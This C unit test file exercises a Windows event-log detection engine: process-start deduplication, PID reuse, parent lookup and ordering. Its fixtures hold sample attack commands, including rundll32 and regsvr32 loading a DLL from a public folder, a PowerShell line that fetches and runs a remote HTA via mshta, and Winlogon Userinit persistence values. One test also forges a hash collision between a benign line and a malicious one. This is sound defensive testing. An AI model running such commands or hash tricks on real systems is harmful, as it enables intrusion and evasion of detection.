/* SPDX-License-Identifier: Apache-2.0 */
/* The engine over facts made here: one process seen twice is one, pids are reused, copies count
 * once, repeats, twins and launchers fold, and no order of arrival changes anything. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "core/fact.h"
#include "core/str.h"
#include "engine/engine.h"

enum { MOST = 64, SECOND = 10000000 };

#define BASE UINT64_C(132000000000000000) /* some day of 2019 */

struct given {
    struct paw_fact *facts[MOST];
    size_t n;
    const struct paw_engine_source *sources;
    size_t n_sources;
};

static const struct paw_engine_source one_root[] = {
    {PAW_LIT_INIT("a.evtx"), PAW_LIT_INIT(""), 1, UINT32_MAX},
    {PAW_LIT_INIT("b.evtx"), PAW_LIT_INIT(""), 1, UINT32_MAX},
};

static const struct paw_engine_source two_roots[] = {
    {PAW_LIT_INIT("x/a.evtx"), PAW_LIT_INIT("x"), 1, UINT32_MAX},
    {PAW_LIT_INIT("x/b.evtx"), PAW_LIT_INIT("x"), 2, UINT32_MAX},
};

/* A process start. guid NULL: a 4688. */
struct start {
    const char *computer, *guid, *parent_guid;
    unsigned pid, parent_pid;
    const char *image, *line, *parent_image;
    unsigned source;
    uint64_t seconds, record;
};

static void keep(struct given *g, struct paw_fact_builder *b)
{
    const struct paw_fact *f = paw_fact_end(b);
    assert_non_null(f);
    assert_true(paw_fact_check(f, f->size));
    assert_true(g->n < MOST);
    g->facts[g->n] = malloc(f->size);
    assert_non_null(g->facts[g->n]);
    memcpy(g->facts[g->n++], f, f->size);
    paw_fact_builder_finish(b);
}

static void text(struct paw_fact_builder *b, enum paw_field_id id, const char *s)
{
    paw_fact_add(b, id, paw_str_of(s));
}

static void number(struct paw_fact_builder *b, enum paw_field_id id, unsigned n)
{
    char digits[16];
    assert_true(snprintf(digits, sizeof(digits), "%u", n) > 0);
    text(b, id, digits);
}

static void begin(struct paw_fact_builder *b, enum paw_kind kind, const struct start *s,
                  unsigned event_id)
{
    *b = (struct paw_fact_builder){0};
    paw_fact_begin(b, kind);
    b->head.time = b->head.logged = BASE + s->seconds * SECOND;
    b->head.record_id = s->record;
    b->head.event_id = (uint16_t)event_id;
    b->head.origin = (struct paw_origin){s->source, 100, s->record * 1000};
    text(b, PAW_F_PROVIDER,
         s->guid != NULL ? "Microsoft-Windows-Sysmon" : "Microsoft-Windows-Security-Auditing");
    text(b, PAW_F_CHANNEL, s->guid != NULL ? "Microsoft-Windows-Sysmon/Operational" : "Security");
    text(b, PAW_F_COMPUTER, s->computer);
    text(b, PAW_F_PROCESS_GUID, s->guid);
    number(b, PAW_F_PROCESS_ID, s->pid);
    text(b, PAW_F_IMAGE, s->image);
}

static void start(struct given *g, struct start s)
{
    struct paw_fact_builder b;
    begin(&b, PAW_KIND_PROCESS_START, &s, s.guid != NULL ? 1 : 4688);
    text(&b, PAW_F_COMMAND_LINE, s.line);
    text(&b, PAW_F_USER, "CORP\\alice");
    text(&b, PAW_F_PARENT_PROCESS_GUID, s.parent_guid);
    number(&b, PAW_F_PARENT_PROCESS_ID, s.parent_pid);
    text(&b, PAW_F_PARENT_IMAGE, s.parent_image);
    keep(g, &b);
}

static void end(struct given *g, struct start s)
{
    struct paw_fact_builder b;
    begin(&b, PAW_KIND_PROCESS_END, &s, s.guid != NULL ? 5 : 4689);
    keep(g, &b);
}

/* What a run comes to. */
struct got {
    struct paw_budget *budget; /* the engine points at it */
    struct paw_catalogue *catalogue;
    struct paw_engine *engine;
    const struct paw_finding *const *findings;
    size_t n;
};

/* step 1 or a number without common divisor with n: another order of arrival */
static struct got run(const struct given *g, size_t step)
{
    struct got r = {.budget = malloc(sizeof(*r.budget))};
    assert_non_null(r.budget);
    *r.budget = (struct paw_budget){.limit = SIZE_MAX / 2};
    assert_int_equal(paw_catalogue_new(paw_analyzers, &r.catalogue), PAW_OK);
    const struct paw_engine_options o = {
        .catalogue = r.catalogue,
        .budget = r.budget,
        .sources = g->sources,
        .n_sources = g->n_sources,
    };
    assert_int_equal(paw_engine_new(&o, &r.engine), PAW_OK);
    for (size_t i = 0; i < g->n; i++) {
        const struct paw_fact *f = g->facts[i * step % g->n];
        if ((paw_engine_first_kinds(r.engine) & PAW_KIND_BIT(f->kind)) != 0)
            assert_int_equal(paw_engine_take(r.engine, f), PAW_OK);
    }
    assert_int_equal(paw_engine_resolve(r.engine), PAW_OK);
    for (size_t i = 0; i < g->n; i++) {
        const struct paw_fact *f = g->facts[i * step % g->n];
        if ((paw_engine_second_kinds(r.engine) & PAW_KIND_BIT(f->kind)) != 0)
            assert_int_equal(paw_engine_take_effect(r.engine, f), PAW_OK);
    }
    assert_int_equal(paw_engine_judge(r.engine, NULL, NULL), PAW_OK);
    r.findings = paw_engine_findings(r.engine, &r.n);
    return r;
}

static void drop(struct got *r)
{
    paw_engine_free(r->engine);
    paw_catalogue_free(r->catalogue);
    free(r->budget);
}

static void forget(struct given *g)
{
    for (size_t i = 0; i < g->n; i++)
        free(g->facts[i]);
    g->n = 0;
}

static const struct paw_finding *finding_of_pid(const struct got *r, uint64_t pid)
{
    for (size_t i = 0; i < r->n; i++)
        if (r->findings[i]->has_process && r->findings[i]->process.pid == pid &&
            r->findings[i]->severity > PAW_INFORMATIONAL)
            return r->findings[i];
    return NULL;
}

static size_t count_at(const struct got *r, enum paw_severity least)
{
    size_t n = 0;
    for (size_t i = 0; i < r->n; i++)
        n += r->findings[i]->severity >= least;
    return n;
}

static size_t roles(const struct paw_finding *f, enum paw_role role)
{
    size_t n = 0;
    for (size_t i = 0; i < f->n_evidence; i++)
        n += f->evidence[i].role == role;
    return n;
}

#define RUNDLL   "C:\\Windows\\System32\\rundll32.exe"
#define EXPLORER "C:\\Windows\\explorer.exe"
#define EVIL     "rundll32.exe C:\\Users\\Public\\a.dll,Start"
#define G1       "{00000001-0000-0000-0000-000000000001}"
#define G2       "{00000001-0000-0000-0000-000000000002}"
#define G3       "{00000001-0000-0000-0000-000000000003}"

/* Tests -----------------------------------------------------------------------------------------
 */

static void seen_twice_is_one(void **state)
{
    (void)state;
    struct given g = {.sources = one_root, .n_sources = 2};
    start(&g, (struct start){"WKS", G1, G2, 100, 4, RUNDLL, EVIL, EXPLORER, 0, 10, 1});
    start(&g, (struct start){"WKS", NULL, NULL, 100, 4, RUNDLL, EVIL, EXPLORER, 1, 11, 2});
    struct got r = run(&g, 1);
    assert_int_equal(count_at(&r, PAW_MEDIUM), 1);
    assert_int_equal(roles(r.findings[0], PAW_ROLE_PRIMARY), 1);
    assert_int_equal(roles(r.findings[0], PAW_ROLE_CONTEXT), 1);
    assert_true(paw_fact_is_sysmon(r.findings[0]->evidence[0].fact));
    drop(&r);
    forget(&g);
    /* another line under the same pid a second later is another process */
    start(&g, (struct start){"WKS", G1, G2, 100, 4, RUNDLL, EVIL, EXPLORER, 0, 10, 1});
    start(&g, (struct start){"WKS", NULL, NULL, 100, 4, RUNDLL, EVIL " x", EXPLORER, 1, 11, 2});
    r = run(&g, 1);
    assert_int_equal(count_at(&r, PAW_MEDIUM), 2);
    drop(&r);
    forget(&g);
}

static void parents_line_from_another_file(void **state)
{
    (void)state;
    struct given g = {.sources = one_root, .n_sources = 2};
    start(&g, (struct start){"SRV", NULL, NULL, 40, 4, "C:\\Windows\\System32\\cmd.exe",
                             "cmd.exe /k title work", EXPLORER, 1, 5, 7});
    start(&g, (struct start){"SRV", NULL, NULL, 100, 40, RUNDLL, EVIL, NULL, 0, 10, 1});
    struct got r = run(&g, 1);
    const struct paw_finding *f = finding_of_pid(&r, 100);
    assert_non_null(f);
    assert_true(paw_str_equal(f->parent.command_line, PAW_LIT("cmd.exe /k title work")));
    drop(&r);
    forget(&g);
}

static void pids_are_reused(void **state)
{
    (void)state;
    struct given g = {.sources = one_root, .n_sources = 2};
    start(&g, (struct start){"SRV", NULL, NULL, 40, 4, "C:\\Windows\\System32\\cmd.exe", "cmd one",
                             EXPLORER, 0, 5, 1});
    end(&g, (struct start){"SRV", NULL, NULL, 40, 4, "C:\\Windows\\System32\\cmd.exe", NULL, NULL,
                           0, 6, 2});
    start(&g, (struct start){"SRV", NULL, NULL, 40, 4, "C:\\Windows\\notepad.exe", "notepad two",
                             EXPLORER, 0, 50, 3});
    start(&g, (struct start){"SRV", NULL, NULL, 100, 40, RUNDLL, EVIL, "C:\\Windows\\notepad.exe",
                             0, 60, 4});
    start(&g, (struct start){"SRV", NULL, NULL, 104, 40, RUNDLL, EVIL "2",
                             "C:\\Windows\\System32\\cmd.exe", 0, 30, 5});
    struct got r = run(&g, 1);
    const struct paw_finding *late = finding_of_pid(&r, 100), *early = finding_of_pid(&r, 104);
    assert_non_null(late);
    assert_non_null(early);
    assert_true(paw_str_equal(late->parent.command_line, PAW_LIT("notepad two")));
    assert_null(early->parent.command_line.p); /* cmd had ended: only its name is known */
    drop(&r);
    forget(&g);
}

static void copies_count_once(void **state)
{
    (void)state;
    struct given g = {.sources = one_root, .n_sources = 2};
    start(&g, (struct start){"WKS", G1, G2, 100, 4, RUNDLL, EVIL, EXPLORER, 0, 10, 1});
    start(&g, (struct start){"WKS", G1, G2, 100, 4, RUNDLL, EVIL, EXPLORER, 1, 10, 1});
    struct got r = run(&g, 1);
    assert_int_equal(count_at(&r, PAW_MEDIUM), 1);
    assert_int_equal(r.findings[0]->evidence[0].all_copies, 1);
    assert_int_equal(r.findings[0]->evidence[0].fact->origin.source, 0);
    assert_int_equal(r.findings[0]->evidence[0].copies[0].source, 1);
    drop(&r);
    forget(&g);
}

static void repeats_fold(void **state)
{
    (void)state;
    struct given g = {.sources = one_root, .n_sources = 2};
    static const char *const guids[] = {
        "{00000002-0000-0000-0000-000000000001}", "{00000002-0000-0000-0000-000000000002}",
        "{00000002-0000-0000-0000-000000000003}", "{00000002-0000-0000-0000-000000000004}"};
    static const uint64_t when[] = {10, 50, 100, 300};
    for (unsigned i = 0; i < 4; i++)
        start(&g, (struct start){"WKS", guids[i], G2, 100 + i * 4, 4, RUNDLL, EVIL, EXPLORER, 0,
                                 when[i], 1 + i});
    struct got r = run(&g, 1);
    assert_int_equal(count_at(&r, PAW_MEDIUM), 2); /* the fourth comes 200 s later */
    assert_int_equal(r.findings[0]->repeats.count, 3);
    assert_int_equal(r.findings[0]->process.pid, 100);
    assert_int_equal(r.findings[1]->repeats.count, 0);
    drop(&r);
    forget(&g);
}

static void twins_fold(void **state)
{
    (void)state;
    struct given g = {.sources = one_root, .n_sources = 2};
    start(&g, (struct start){"WKS", G1, G3, 100, 4, "C:\\Windows\\System32\\regsvr32.exe",
                             "regsvr32.exe /s C:\\Users\\Public\\a.dll", EXPLORER, 0, 10, 1});
    start(&g, (struct start){"WKS", G2, G1, 104, 100, "C:\\Windows\\SysWOW64\\regsvr32.exe",
                             " /s C:\\Users\\Public\\a.dll", "C:\\Windows\\System32\\regsvr32.exe",
                             0, 11, 2});
    struct got r = run(&g, 1);
    assert_int_equal(count_at(&r, PAW_LOW), 1);
    assert_int_equal(r.findings[0]->process.pid, 100);
    drop(&r);
    forget(&g);
}

static void launchers_fold(void **state)
{
    (void)state;
    struct given g = {.sources = one_root, .n_sources = 2};
    start(&g, (struct start){"WKS", G1, G3, 100, 4, "C:\\Windows\\System32\\cmd.exe",
                             "cmd.exe /c " EVIL, EXPLORER, 0, 10, 1});
    struct got r = run(&g, 1);
    assert_int_equal(count_at(&r, PAW_MEDIUM),
                     1); /* nobody saw the child: the text alone is judged */
    assert_string_equal(r.findings[0]->standing.kind, "launcher");
    drop(&r);
    start(&g, (struct start){"WKS", G2, G1, 104, 100, RUNDLL, EVIL,
                             "C:\\Windows\\System32\\cmd.exe", 0, 11, 2});
    r = run(&g, 1);
    assert_int_equal(count_at(&r, PAW_MEDIUM), 1);
    assert_int_equal(r.findings[0]->process.pid, 104);
    assert_int_equal(roles(r.findings[0], PAW_ROLE_PARENT), 1);
    drop(&r);
    forget(&g);
}

#define V2     "C:\\Windows\\Microsoft.NET\\Framework\\v2.0.50727\\RegAsm.exe"
#define V4     "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegAsm.exe"
#define ITS    " C:\\Windows\\a.dll"
#define CMDEXE "C:\\Windows\\System32\\cmd.exe"

/* What was launched and left no start of its own: the file that came before it is asked for, and a
 * run of another program file is not its run. */
static void launched_unseen(void **state)
{
    (void)state;
    struct given g = {.sources = one_root, .n_sources = 2};
    const struct start writer = {"WKS", G3, G3, 96, 4, EXPLORER, NULL, NULL, 0, 5, 9};
    struct paw_fact_builder b;
    begin(&b, PAW_KIND_FILE, &writer, 11);
    text(&b, PAW_F_TARGET_FILENAME, "C:\\Windows\\a.dll");
    keep(&g, &b);
    start(&g, (struct start){"WKS", G1, G3, 100, 96, CMDEXE, "cmd /c " V2 ITS, EXPLORER, 0, 10, 1});
    start(&g, (struct start){"WKS", G2, G3, 104, 96, V4, V4 ITS, EXPLORER, 0, 11, 2});
    struct got r = run(&g, 1);
    const struct paw_finding *ran = finding_of_pid(&r, 104);
    assert_non_null(ran);
    assert_int_equal(roles(ran, PAW_ROLE_PARENT), 0);
    size_t launched = 0;
    for (size_t i = 0; i < r.n; i++) {
        const struct paw_finding *f = r.findings[i];
        if (f->standing.kind == NULL)
            continue;
        launched++;
        assert_string_equal(f->held[0].id, "generic.drop_then_proxy");
        assert_int_equal(f->evidence[0].role, PAW_ROLE_PRIMARY); /* the line, not the older file */
        assert_int_equal(f->evidence[0].fact->event_id, 1);
        assert_int_equal(roles(f, PAW_ROLE_FILE), 1);
    }
    assert_int_equal(launched, 1);
    drop(&r);
    forget(&g);
}

static void hosts_stay_apart(void **state)
{
    (void)state;
    struct given g = {.sources = two_roots, .n_sources = 2};
    start(&g, (struct start){"WKS", G1, G2, 100, 4, RUNDLL, EVIL, EXPLORER, 0, 10, 1});
    start(&g, (struct start){"WKS", G3, G2, 100, 4, RUNDLL, EVIL, EXPLORER, 1, 11, 2});
    struct got r = run(&g, 1);
    assert_int_equal(r.n, 2);
    assert_true(paw_str_equal(r.findings[0]->host, PAW_LIT("WKS")) ||
                paw_str_equal(r.findings[0]->host, PAW_LIT("WKS#2")));
    assert_false(paw_str_equal(r.findings[0]->host, r.findings[1]->host));
    drop(&r);
    /* one record in both: one machine */
    start(&g, (struct start){"WKS", G2, G1, 108, 100, "C:\\Windows\\System32\\calc.exe", "calc",
                             RUNDLL, 0, 12, 3});
    start(&g, (struct start){"WKS", NULL, NULL, 112, 100, "C:\\Windows\\explorer.exe", "explorer",
                             RUNDLL, 0, 13, 4}); /* they need not come one behind the other */
    start(&g, (struct start){"WKS", G2, G1, 108, 100, "C:\\Windows\\System32\\calc.exe", "calc",
                             RUNDLL, 1, 12, 3});
    r = run(&g, 1);
    for (size_t i = 0; i < r.n; i++)
        assert_true(paw_str_equal(r.findings[i]->host, PAW_LIT("WKS")));
    drop(&r);
    forget(&g);
}

static void order_is_nothing(void **state)
{
    (void)state;
    struct given g = {.sources = one_root, .n_sources = 2};
    for (unsigned i = 0; i < 13; i++) {
        char guid[48], line[64];
        assert_true(snprintf(guid, sizeof(guid), "{0000000%X-0000-0000-0000-000000000009}", i) > 0);
        assert_true(snprintf(line, sizeof(line), "rundll32.exe C:\\Users\\Public\\%u.dll,Start",
                             i / 3) > 0);
        start(&g, (struct start){i % 2 != 0 ? "WKS" : "SRV", guid, G2, 100 + i, 4, RUNDLL, line,
                                 EXPLORER, i % 2, 10 + i * 7 % 5, 1 + i});
    }
    struct got first = run(&g, 1);
    static const size_t steps[] = {2, 3, 5, 12};
    for (size_t s = 0; s < PAW_COUNT_OF(steps); s++) {
        struct got other = run(&g, steps[s]);
        assert_int_equal(first.n, other.n);
        for (size_t i = 0; i < first.n; i++) {
            assert_string_equal(first.findings[i]->id, other.findings[i]->id);
            assert_int_equal(first.findings[i]->repeats.count, other.findings[i]->repeats.count);
            assert_int_equal(first.findings[i]->n_evidence, other.findings[i]->n_evidence);
        }
        drop(&other);
    }
    drop(&first);
    forget(&g);
}

/* A record of PowerShell that says by which line its host was started. */
static void said_line(struct given *g, paw_str line, uint64_t record)
{
    struct paw_fact_builder b;
    const struct start s = {.computer = "WKS", .pid = 0, .seconds = record, .record = record};
    begin(&b, PAW_KIND_POWERSHELL, &s, 400);
    paw_fact_add(&b, PAW_F_HOST_APPLICATION, line);
    keep(g, &b);
}

/* paw_hash over whole blocks, before it is finished. */
static uint64_t hash_of_blocks(const char *p, size_t blocks, size_t n)
{
    uint64_t h = n * UINT64_C(0x9E3779B97F4A7C15);
    for (size_t i = 0; i < blocks; i++) {
        uint64_t v;
        memcpy(&v, p + 8 * i, 8);
        h = (h ^ v) * UINT64_C(0xFF51AFD7ED558CCD);
        h ^= h >> 32;
    }
    return h;
}

/* Ends two lines of n bytes, the last block missing, so that they share a hash; both stay text. */
static bool make_alike(char *a, char *b, size_t n)
{
    const size_t blocks = n / 8 - 1;
    const uint64_t apart = hash_of_blocks(a, blocks, n) ^ hash_of_blocks(b, blocks, n);
    for (size_t i = n - 8; i < n; i++) {
        const char with = ((const char *)&apart)[i - (n - 8)];
        char c = 'a';
        while (c <= 'z' && ((c ^ with) < ' ' || (c ^ with) > '~'))
            c++;
        if (c > 'z')
            return false;
        a[i] = c;
        b[i] = (char)(c ^ with);
    }
    return true;
}

/* Nobody hides a line behind another whose hash it was given. */
static void lines_of_one_hash_are_two(void **state)
{
    (void)state;
    char quiet[] = "powershell.exe -NoProfile -Command Get-Date # 00000000xxxxxxxxxxxxxxxx   ";
    char evil[] = "powershell.exe -c mshta http://198.51.100.7/a.hta # 00000000xxxxxxxxxxxxx";
    const size_t n = (sizeof(quiet) - 1) / 8 * 8;
    assert_int_equal(sizeof(quiet), sizeof(evil));
    for (unsigned number = 0; !make_alike(quiet, evil, n); number++) {
        char digits[9];
        assert_int_equal(snprintf(digits, sizeof(digits), "%08u", number), 8);
        memcpy(strchr(quiet, '#') + 2, digits, 8);
    }
    quiet[n] = evil[n] = '\0';
    assert_true(paw_hash(quiet, n, 0) == paw_hash(evil, n, 0));
    struct given g = {.sources = one_root, .n_sources = 2};
    said_line(&g, (paw_str){quiet, n}, 1);
    said_line(&g, (paw_str){evil, n}, 2);
    said_line(&g, (paw_str){evil, n}, 3); /* said again: it counts once */
    struct got r = run(&g, 1);
    assert_int_equal(count_at(&r, PAW_MEDIUM), 1);
    drop(&r);
    forget(&g);
}

/* How many commands of a value of Winlogon are findings; each is shown alone. */
static size_t count_userinit(const char *data)
{
    struct given g = {.sources = one_root, .n_sources = 2};
    const struct start writer = {"WKS", G3, G3, 96, 4, EXPLORER, NULL, NULL, 0, 5, 9};
    struct paw_fact_builder b;
    size_t n = 0;
    begin(&b, PAW_KIND_REGISTRY, &writer, 13);
    text(&b, PAW_F_EVENT_TYPE, "SetValue");
    text(&b, PAW_F_TARGET_OBJECT,
         "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit");
    text(&b, PAW_F_DETAILS, data);
    keep(&g, &b);
    struct got r = run(&g, 1);
    for (size_t i = 0; i < r.n; i++) {
        const struct paw_finding *f = r.findings[i];
        if (f->standing.kind == NULL || strcmp(f->standing.kind, "winlogon") != 0)
            continue;
        n++;
        assert_true(f->process.command_line.n != 0);
        assert_true(paw_str_find(f->process.command_line, PAW_LIT("userinit"), 0) == SIZE_MAX);
        assert_true(f->process.command_line.p[f->process.command_line.n - 1] != ',');
    }
    drop(&r);
    forget(&g);
    return n;
}

static void winlogon_is_a_list(void **state)
{
    (void)state;
    assert_int_equal(count_userinit("C:\\Windows\\system32\\userinit.exe, " EVIL), 1);
    assert_int_equal(count_userinit("userinit.exe," EVIL ",\"C:\\Windows\\System32\\mshta.exe\" "
                                    "C:\\Users\\Public\\a.hta,"),
                     2);
    assert_int_equal(count_userinit("C:\\Windows\\system32\\userinit.exe,"), 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(seen_twice_is_one),
        cmocka_unit_test(parents_line_from_another_file),
        cmocka_unit_test(pids_are_reused),
        cmocka_unit_test(copies_count_once),
        cmocka_unit_test(repeats_fold),
        cmocka_unit_test(twins_fold),
        cmocka_unit_test(launchers_fold),
        cmocka_unit_test(launched_unseen),
        cmocka_unit_test(hosts_stay_apart),
        cmocka_unit_test(order_is_nothing),
        cmocka_unit_test(lines_of_one_hash_are_two),
        cmocka_unit_test(winlogon_is_a_list),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
